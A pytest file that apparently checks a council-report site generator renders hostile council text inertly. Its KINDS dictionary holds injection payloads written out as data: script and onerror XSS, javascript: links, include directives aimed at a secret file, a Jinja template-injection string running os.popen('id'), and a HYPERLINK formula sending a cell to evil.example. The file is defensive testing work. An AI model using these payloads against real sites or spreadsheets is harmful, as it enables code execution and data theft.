"""Text from a council is text on the page, whatever it would like to be."""

from __future__ import annotations

from collections import Counter
from collections.abc import Callable
from html import unescape
from pathlib import Path

import pytest
import yaml

from tests.browser import open_site, pages, reading_pages
from tests.site.reading import passages
from tests.site.workshop import SAMPLE, Workshop, copied_council, read_rows, write_rows

SECRET = "never-to-be-published"
KINDS = {
    "script": "<script>window.pwned = 1</script></title></script>",
    "onerror": '<img src="x" onerror="window.pwned = 2">',
    "javascript": "[go](javascript:window.pwned=3) <a href='javascript:window.pwned=3'>go</a>",
    "myst": "```{include} SECRET_FILE\n```\n{raw}`html <b>` {download}`SECRET_FILE`",
    "rst": ".. raw:: html\n\n   <script>window.pwned = 4</script>\n\n.. include:: SECRET_FILE",
    "jinja": "{{ 7*7 }} {% set x = 1 %} {{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "latex": r"$\href{javascript:window.pwned=5}{x}$ \(a\) $$\input{SECRET_FILE}$$ £5 $6",
    "svg": "</text></svg><svg onload='window.pwned=6'><script>window.pwned = 7</script>",
    "bidi": "safe \u202eelbaliava\u202c \u2066isolated\u2069 end",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
}
BIDI_CONTROLS = "\u202e\u202c\u2066\u2069"
POPEN_SAID = "uid="
RUNS_SOMETHING = r"""() => [
  ...[...document.querySelectorAll("*")].flatMap((element) => [...element.attributes])
    .filter((one) => one.name.startsWith("on") || /^\s*javascript:/i.test(one.value))
    .map((one) => `${one.name}=${one.value}`),
  ...[...document.querySelectorAll("iframe, object, embed, base, foreignObject")]
    .map((element) => element.outerHTML),
]"""
SCRIPTS = "() => [...document.scripts].map((one) => one.getAttribute('src') || one.text)"


@pytest.fixture(scope="module")
def texts(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
    """What the council wrote; some of it is aimed at a file that lies on this machine."""
    secret = tmp_path_factory.mktemp("machine") / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    return [text.replace("SECRET_FILE", str(secret)) for text in KINDS.values()]


@pytest.fixture(scope="module")
def hostile(
    tmp_path_factory: pytest.TempPathFactory,
    new_workshop: Callable[[Path], Workshop],
    texts: list[str],
) -> Workshop:
    """A council whose name, titles of measures, findings and commentary are hostile."""
    root = tmp_path_factory.mktemp("hostile")
    council = copied_council(SAMPLE, root / "council")
    _write_name(council / "council.yml", " ".join(texts))
    _write_titles(council / "indicators.csv", texts)
    _write_findings(council / "external_judgements.csv", texts)
    _write_commentary(council, texts)
    workshop = new_workshop(root / "project")
    for audience in ("public", "board"):
        workshop.build(council, "2023-05", "--audience", audience)
    return workshop


@pytest.fixture(params=["public", "board"])
def folder(request: pytest.FixtureRequest, hostile: Workshop) -> Path:
    """The site of one audience."""
    return hostile.site / str(request.param)


def test_titles_and_findings_stand_as_they_were_written(folder: Path, texts: list[str]) -> None:
    expected = set(map(_visible, texts))
    assert expected <= _said(folder / "2023-05" / "indicators.html")
    assert expected <= _said(folder / "2023-05" / "summary.html")


def test_commentary_stands_as_it_was_written(hostile: Workshop, texts: list[str]) -> None:
    page = hostile.site / "board" / "2023-05" / "indicators.html"
    assert {f"Owner: {_visible(text)}" for text in texts} <= _said(page)


def test_the_councils_name_stands_on_every_page(folder: Path, texts: list[str]) -> None:
    name = _visible(" ".join(texts))
    for page in pages(folder):
        assert any(name in _visible(text) for text in _said(folder / page)), page


def test_nothing_reorders_what_a_reader_sees(folder: Path) -> None:
    found = [page for page in pages(folder) if set(BIDI_CONTROLS) & _characters(folder / page)]
    assert found == []


@pytest.mark.browser
def test_no_page_runs_anything(folder: Path) -> None:
    dialogs: list[str] = []
    with open_site(folder) as site:
        site.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        for name in [*reading_pages(folder), "2023-05/search.html?q=measures"]:
            page = site.visit(name)
            assert page.evaluate("window.pwned") is None, name
            assert page.evaluate(RUNS_SOMETHING) == [], name
        assert (dialogs, site.complaints, site.foreign_requests) == ([], [], [])


@pytest.mark.browser
def test_a_page_has_no_other_scripts_than_that_of_a_harmless_council(
    folder: Path, sample: Workshop
) -> None:
    names = [name for name in reading_pages(folder) if name.startswith("2023-05/")]
    assert _scripts(folder, names) == _scripts(sample.site / folder.name, names)


@pytest.mark.browser
def test_a_reader_sees_the_texts(folder: Path, texts: list[str]) -> None:
    with open_site(folder) as site:
        seen = site.visit("2023-05/indicators.html").locator("main").inner_text()
    seen = " ".join(seen.split())
    assert [text for text in map(_visible, texts) if text not in seen] == []


@pytest.mark.parametrize("text", [SECRET, POPEN_SAID])
def test_nothing_is_included_and_no_command_runs(hostile: Workshop, text: str) -> None:
    files = [path for path in hostile.site.rglob("*") if path.is_file()]
    assert files
    assert [path for path in files if text.encode() in path.read_bytes()] == []


def test_a_formula_is_text_to_a_spreadsheet(hostile: Workshop) -> None:
    titles = [
        row["title"] for path in hostile.built.rglob("indicators.csv") for row in read_rows(path)
    ]
    assert [title for title in titles if "HYPERLINK" in title] == [f"'{KINDS['formula']}"] * 2


def _write_name(path: Path, name: str) -> None:
    settings = yaml.safe_load(path.read_text(encoding="utf-8")) | {"name": name}
    path.write_text(yaml.safe_dump(settings, allow_unicode=True), encoding="utf-8")


def _write_titles(path: Path, texts: list[str]) -> None:
    rows = read_rows(path)
    for row, text in zip(rows, texts, strict=False):
        row["title"] = text
    write_rows(path, rows)


def _write_findings(path: Path, texts: list[str]) -> None:
    rows = read_rows(path)
    visit = next(row for row in rows if not row["grade"])
    rows += [visit | {"area": f"Area {n}", "finding": text} for n, text in enumerate(texts)]
    write_rows(path, rows)


def _write_commentary(council: Path, texts: list[str]) -> None:
    """A text on the latest value of each of the first measures."""
    latest: dict[str, str] = {}
    for row in read_rows(council / "observations.csv"):
        if not row["dimension"]:
            latest[row["indicator_id"]] = max(row["period"], latest.get(row["indicator_id"], ""))
    rows = [
        {"indicator_id": name, "period": latest[name], "text": f"Owner: {text}",
         "author": "Head of Service", "written_on": "2023-06-01"}
        for name, text in zip(latest, texts, strict=False)
    ]  # fmt: skip
    write_rows(council / "commentary.csv", rows)


def _scripts(folder: Path, names: list[str]) -> dict[str, Counter[str]]:
    with open_site(folder) as site:
        return {name: Counter(site.visit(name).evaluate(SCRIPTS)) for name in names}


def _visible(text: str) -> str:
    """As a reader sees it: on one line, in the order in which it was written."""
    return " ".join(text.translate(dict.fromkeys(map(ord, BIDI_CONTROLS))).split())


def _characters(page: Path) -> set[str]:
    return set(unescape(page.read_text(encoding="utf-8")))


def _said(page: Path) -> set[str]:
    return {passage.text for passage in passages(page)}
